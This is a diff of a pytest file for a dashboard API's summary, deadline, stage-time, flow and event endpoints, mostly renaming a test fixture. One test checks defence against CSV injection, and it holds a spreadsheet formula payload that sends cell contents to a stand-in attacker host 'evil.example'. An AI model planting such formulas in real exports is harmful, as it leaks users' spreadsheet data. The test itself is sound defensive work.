@@ -9,10 +9,8 @@ from typing import Any
 
 import pytest
 
-from core.stages import Role
 from models import Activity, Person, Transition
-from tests.conftest import People
-from tests.oversight.dashboard_data import CLOSED, PP, RTC, TG, TT, WD, DataSet, build_data_set
+from tests.oversight.dashboard_data import CLOSED, PP, RTC, TG, TT, WD, DashboardData
 
 STAGES = [TG, TT, PP, RTC, CLOSED, WD]
 
@@ -21,16 +19,6 @@ def counts(
     tg: int = 0, tt: int = 0, pp: int = 0, rtc: int = 0, closed: int = 0, wd: int = 0
 ) -> dict[str, int]:
     return dict(zip([s.value for s in STAGES], [tg, tt, pp, rtc, closed, wd], strict=True))
-
-
-@pytest.fixture
-async def data(db, people: People) -> DataSet:
-    return await build_data_set(db, actor_id=people[Role.COORDINATOR].id)
-
-
-@pytest.fixture
-def headers(people: People) -> dict[str, str]:
-    return people.headers(Role.OVERSIGHT)
 
 
 async def get_json(client, url: str, headers: dict[str, str], **params: Any) -> Any:
@@ -50,7 +38,7 @@ async def get_csv(client, url: str, headers: dict[str, str], **params: Any) -> l
 
 
 async def test_summary_counts_each_activity_once_per_stage_and_once_per_convention(
-    client, data: DataSet, headers
+    client, dashboard_data: DashboardData, headers
 ) -> None:
     body = await get_json(client, "/dashboard/summary", headers)
     assert body["total"] == 4
@@ -71,24 +59,26 @@ async def test_summary_counts_each_activity_once_per_stage_and_once_per_conventi
     }
 
 
-async def test_summary_filters_by_convention_group_and_meeting(client, data: DataSet, headers) -> None:
+async def test_summary_filters_by_convention_group_and_meeting(
+    client, dashboard_data: DashboardData, headers
+) -> None:
     by_rc = await get_json(client, "/dashboard/summary", headers, convention="RC")
     assert by_rc["total"] == 2 and by_rc["by_stage"] == counts(rtc=1, wd=1)
     assert {c["convention"] for c in by_rc["cells"]} == {"RC"}
 
-    by_group = await get_json(client, "/dashboard/summary", headers, thematic_group=data["tg2"])
+    by_group = await get_json(client, "/dashboard/summary", headers, thematic_group=dashboard_data["tg2"])
     assert by_group["by_stage"] == counts(tg=1, wd=1)
 
-    by_meeting = await get_json(client, "/dashboard/summary", headers, meeting=data["m1"])
+    by_meeting = await get_json(client, "/dashboard/summary", headers, meeting=dashboard_data["m1"])
     assert by_meeting["by_stage"] == counts(rtc=1)
 
     both = await get_json(
-        client, "/dashboard/summary", headers, convention=["BC", "SC"], thematic_group=data["tg1"]
+        client, "/dashboard/summary", headers, convention=["BC", "SC"], thematic_group=dashboard_data["tg1"]
     )
     assert both["by_stage"] == counts(tt=1, rtc=1)
 
 
-async def test_summary_csv_matches_json(client, data: DataSet, headers) -> None:
+async def test_summary_csv_matches_json(client, dashboard_data: DashboardData, headers) -> None:
     body = await get_json(client, "/dashboard/summary", headers)
     rows = await get_csv(client, "/dashboard/summary", headers)
     assert [
@@ -98,7 +88,7 @@ async def test_summary_csv_matches_json(client, data: DataSet, headers) -> None:
     assert by_param.headers["content-type"].startswith("text/csv")
 
 
-async def test_dashboard_needs_a_token(client, data: DataSet) -> None:
+async def test_dashboard_needs_a_token(client, dashboard_data: DashboardData) -> None:
     assert (await client.get("/dashboard/summary")).status_code == 401
 
 
@@ -106,20 +96,20 @@ async def test_dashboard_needs_a_token(client, data: DataSet) -> None:
 
 
 async def test_overdue_lists_open_activities_past_due_with_days_and_lead(
-    client, data: DataSet, headers
+    client, dashboard_data: DashboardData, headers
 ) -> None:
     body = await get_json(client, "/dashboard/overdue", headers, as_of="2026-02-10")
     assert body["total"] == 1
     assert body["items"] == [
         {
-            "id": data["a2"],
+            "id": dashboard_data["a2"],
             "title": "Customs training",
             "stage": "task_team",
             "due_on": "2026-02-01",
             "days": 9,
-            "lead_id": data.alice_id,
+            "lead_id": dashboard_data.alice_id,
             "lead_name": "Alice Lead",
-            "thematic_group_id": data["tg1"],
+            "thematic_group_id": dashboard_data["tg1"],
         }
     ]
     later = await get_json(client, "/dashboard/overdue", headers, as_of="2026-03-30")
@@ -140,7 +130,7 @@ async def test_overdue_lists_open_activities_past_due_with_days_and_lead(
     ]
 
 
-async def test_due_soon_counts_days_left(client, data: DataSet, headers) -> None:
+async def test_due_soon_counts_days_left(client, dashboard_data: DashboardData, headers) -> None:
     body = await get_json(client, "/dashboard/due-soon", headers, as_of="2026-02-10")
     assert [(i["title"], i["due_on"], i["days"]) for i in body["items"]] == [
         ("Mercury inventory", "2026-02-15", 5),
@@ -156,7 +146,7 @@ async def test_due_soon_counts_days_left(client, data: DataSet, headers) -> None
 
 
 async def test_upcoming_merges_stage_deadlines_meetings_and_document_deadlines(
-    client, data: DataSet, headers
+    client, dashboard_data: DashboardData, headers
 ) -> None:
     body = await get_json(client, "/dashboard/upcoming", headers, as_of="2026-02-10", days=90)
     assert [(i["date"], i["kind"], i["days_left"]) for i in body["items"]] == [
@@ -165,7 +155,7 @@ async def test_upcoming_merges_stage_deadlines_meetings_and_document_deadlines(
         ("2026-03-23", "document_deadline", 41),  # M1: six weeks before 4 May
         ("2026-05-04", "meeting", 83),  # M1 opens
     ]
-    assert body["items"][3]["meeting_id"] == data["m1"]
+    assert body["items"][3]["meeting_id"] == dashboard_data["m1"]
     assert body["items"][3]["ends_on"] == "2026-05-15"
     assert body["items"][3]["conventions"] == ["BC", "RC", "SC"]
 
@@ -175,7 +165,7 @@ async def test_upcoming_merges_stage_deadlines_meetings_and_document_deadlines(
         "document_deadline",  # M2's override; M2 itself opens 7 Sept, past the window
     )
     only_rc_meeting = await get_json(
-        client, "/dashboard/upcoming", headers, as_of="2026-02-10", days=180, meeting=data["m2"]
+        client, "/dashboard/upcoming", headers, as_of="2026-02-10", days=180, meeting=dashboard_data["m2"]
     )
     assert [(i["date"], i["kind"]) for i in only_rc_meeting["items"]] == [("2026-08-01", "document_deadline")]
     rows = await get_csv(client, "/dashboard/upcoming", headers, as_of="2026-02-10", days=90)
@@ -184,17 +174,19 @@ async def test_upcoming_merges_stage_deadlines_meetings_and_document_deadlines(
     ]
 
 
-async def test_csv_exports_never_hand_a_spreadsheet_a_formula(client, db, data: DataSet, headers) -> None:
+async def test_csv_exports_never_hand_a_spreadsheet_a_formula(
+    client, db, dashboard_data: DashboardData, headers
+) -> None:
     """OWASP CSV injection: text starting with = + - @ tab or CR is prefixed with a quote; numbers
     (negative ones too) stay numbers."""
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
     async with db() as session, session.begin():
-        activity = await session.get_one(Activity, data["a1"])
+        activity = await session.get_one(Activity, dashboard_data["a1"])
         activity.title = formula
-        lead = await session.get_one(Person, data.alice_id)
+        lead = await session.get_one(Person, dashboard_data.alice_id)
         lead.name = "@SUM(1+1)"
     rows = await get_csv(client, "/dashboard/overdue", headers, as_of="2026-03-30")
-    row = next(r for r in rows if int(r["id"]) == data["a1"])
+    row = next(r for r in rows if int(r["id"]) == dashboard_data["a1"])
     assert row["title"] == "'" + formula
     assert row["lead_name"] == "'@SUM(1+1)"
     assert int(row["days_overdue"]) == 7
@@ -206,7 +198,7 @@ async def test_csv_exports_never_hand_a_spreadsheet_a_formula(client, db, data: 
 
 
 async def test_stage_times_median_and_p90_from_consecutive_transitions(
-    client, data: DataSet, headers
+    client, dashboard_data: DashboardData, headers
 ) -> None:
     body = await get_json(client, "/dashboard/stage-times", headers)
     in_stage = {d["stage"]: d for d in body["time_in_stage"]}
@@ -241,7 +233,7 @@ async def test_stage_times_median_and_p90_from_consecutive_transitions(
     assert cycle["withdrawn"]["p90_days"] == pytest.approx(17.0)
 
 
-async def test_stage_times_by_range_and_filter(client, data: DataSet, headers) -> None:
+async def test_stage_times_by_range_and_filter(client, dashboard_data: DashboardData, headers) -> None:
     # Stays ending 12–20 Jan: TT A1 5 (12 Jan); PP A3 2 (20 Jan); TT A3 10 (18 Jan).
     body = await get_json(
         client, "/dashboard/stage-times", headers, **{"from": "2026-01-12", "to": "2026-01-20"}
@@ -251,7 +243,7 @@ async def test_stage_times_by_range_and_filter(client, data: DataSet, headers) -
         "task_team": (2, pytest.approx(7.5)),
         "pilot_project": (1, pytest.approx(2.0)),
     }
-    only_a3 = await get_json(client, "/dashboard/stage-times", headers, thematic_group=data["tg2"])
+    only_a3 = await get_json(client, "/dashboard/stage-times", headers, thematic_group=dashboard_data["tg2"])
     assert {d["stage"]: d["count"] for d in only_a3["time_in_stage"]} == {
         "thematic_group": 1,
         "task_team": 2,
@@ -260,11 +252,11 @@ async def test_stage_times_by_range_and_filter(client, data: DataSet, headers) -
 
 
 async def test_a_move_dated_before_the_activity_was_created_counts_as_no_time_not_less(
-    client, db, data: DataSet, headers
+    client, db, dashboard_data: DashboardData, headers
 ) -> None:
     """Rows an earlier version loaded with shifted dates had moves before creation (issue 12)."""
     async with db() as session, session.begin():
-        activity = await session.get(Activity, data["a4"])
+        activity = await session.get(Activity, dashboard_data["a4"])
         assert activity is not None
         session.add(
             Transition(
@@ -272,11 +264,11 @@ async def test_a_move_dated_before_the_activity_was_created_counts_as_no_time_no
                 seq=1,
                 from_stage=TG,
                 to_stage=TT,
-                actor_id=data.alice_id,
+                actor_id=dashboard_data.alice_id,
                 at=activity.created_at - timedelta(days=30),
             )
         )
-    body = await get_json(client, "/dashboard/stage-times", headers, thematic_group=data["tg2"])
+    body = await get_json(client, "/dashboard/stage-times", headers, thematic_group=dashboard_data["tg2"])
     stays = {d["stage"]: d for d in body["time_in_stage"]}
     assert stays["thematic_group"]["count"] == 2  # A3's stay of 2 days and A4's of -30, counted as 0
     assert stays["thematic_group"]["median_days"] == pytest.approx(1.0)
@@ -289,7 +281,7 @@ async def test_a_move_dated_before_the_activity_was_created_counts_as_no_time_no
     assert min(every_figure) >= 0
 
 
-async def test_stage_times_csv_matches_json(client, data: DataSet, headers) -> None:
+async def test_stage_times_csv_matches_json(client, dashboard_data: DashboardData, headers) -> None:
     body = await get_json(client, "/dashboard/stage-times", headers)
     rows = await get_csv(client, "/dashboard/stage-times", headers)
     expected = [
@@ -327,7 +319,9 @@ DAILY_FLOW = {  # end of day: TG, TT, PP, RTC (nothing closed; A3 withdrawn on 2
 }
 
 
-async def test_cumulative_flow_per_day_is_rebuilt_from_the_log(client, data: DataSet, headers) -> None:
+async def test_cumulative_flow_per_day_is_rebuilt_from_the_log(
+    client, dashboard_data: DashboardData, headers
+) -> None:
     body = await get_json(
         client, "/dashboard/cumulative-flow", headers, **{"from": "2026-01-07", "to": "2026-01-23"}
     )
@@ -341,7 +335,9 @@ async def test_cumulative_flow_per_day_is_rebuilt_from_the_log(client, data: Dat
     assert {r.pop("date"): {k: int(v) for k, v in r.items()} for r in rows} == DAILY_FLOW
 
 
-async def test_cumulative_flow_per_week_ends_on_sundays(client, data: DataSet, headers) -> None:
+async def test_cumulative_flow_per_week_ends_on_sundays(
+    client, dashboard_data: DashboardData, headers
+) -> None:
     body = await get_json(
         client,
         "/dashboard/cumulative-flow",
@@ -361,7 +357,7 @@ async def test_cumulative_flow_per_week_ends_on_sundays(client, data: DataSet, h
     assert all(p["counts"] == counts() for p in before_anything["points"])
 
 
-async def test_cumulative_flow_filters_by_convention(client, data: DataSet, headers) -> None:
+async def test_cumulative_flow_filters_by_convention(client, dashboard_data: DashboardData, headers) -> None:
     body = await get_json(
         client,
         "/dashboard/cumulative-flow",
@@ -380,7 +376,9 @@ async def test_cumulative_flow_filters_by_convention(client, data: DataSet, head
     ]
 
 
-async def test_throughput_counts_transitions_per_week_by_target_stage(client, data: DataSet, headers) -> None:
+async def test_throughput_counts_transitions_per_week_by_target_stage(
+    client, dashboard_data: DashboardData, headers
+) -> None:
     body = await get_json(
         client, "/dashboard/throughput", headers, **{"from": "2026-01-05", "to": "2026-01-25"}
     )
@@ -411,7 +409,7 @@ async def test_throughput_counts_transitions_per_week_by_target_stage(client, da
     ]
 
 
-async def test_ranges_are_validated(client, data: DataSet, headers) -> None:
+async def test_ranges_are_validated(client, dashboard_data: DashboardData, headers) -> None:
     backwards = await client.get(
         "/dashboard/throughput", headers=headers, params={"from": "2026-02-01", "to": "2026-01-01"}
     )
@@ -425,7 +423,7 @@ async def test_ranges_are_validated(client, data: DataSet, headers) -> None:
 # --- the event list ----------------------------------------------------------------------------
 
 
-async def test_events_are_paginated_by_transition_id(client, data: DataSet, headers) -> None:
+async def test_events_are_paginated_by_transition_id(client, dashboard_data: DashboardData, headers) -> None:
     first = await get_json(client, "/events", headers, limit=4)
     assert first["next_cursor"] == str(first["items"][-1]["id"]) and len(first["items"]) == 4
     assert first["next_after"] == first["items"][-1]["id"] and first["total"] is None
@@ -443,7 +441,7 @@ async def test_events_are_paginated_by_transition_id(client, data: DataSet, head
         "total": None,
         "next_after": rest["next_after"],
     }
-    only_a3 = await get_json(client, "/events", headers, activity_id=data["a3"])
+    only_a3 = await get_json(client, "/events", headers, activity_id=dashboard_data["a3"])
     assert [e["to_stage"] for e in only_a3["items"]] == [
         "task_team",
         "pilot_project",
@@ -452,7 +450,7 @@ async def test_events_are_paginated_by_transition_id(client, data: DataSet, head
     ]
 
 
-async def test_due_windows_follow_as_of(client, data: DataSet, headers) -> None:
+async def test_due_windows_follow_as_of(client, dashboard_data: DashboardData, headers) -> None:
     today = date(2026, 2, 14)
     body = await get_json(client, "/dashboard/due-soon", headers, as_of=today.isoformat(), days=1)
     assert [i["due_on"] for i in body["items"]] == [(today + timedelta(days=1)).isoformat()]
